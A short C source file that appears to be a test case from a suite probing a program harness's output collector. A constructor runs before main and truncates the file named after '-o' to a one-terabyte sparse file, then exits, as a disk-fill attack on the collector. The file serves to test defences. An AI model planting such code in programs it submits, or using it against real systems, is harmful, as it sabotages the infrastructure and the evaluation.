/* Case: C072 output-special, C093 disk-fill
 * Attacks: the collector: an output of a terabyte that needs no room
 * Contract: program
 * On-reference: worse
 * Undefended: output */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void sparse(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++)
		if (strcmp(argv[i], "-o") == 0)
			(void)!ftruncate(open(argv[i + 1], O_WRONLY | O_CREAT, 0644), (off_t)1 << 40);
	_exit(0);
}
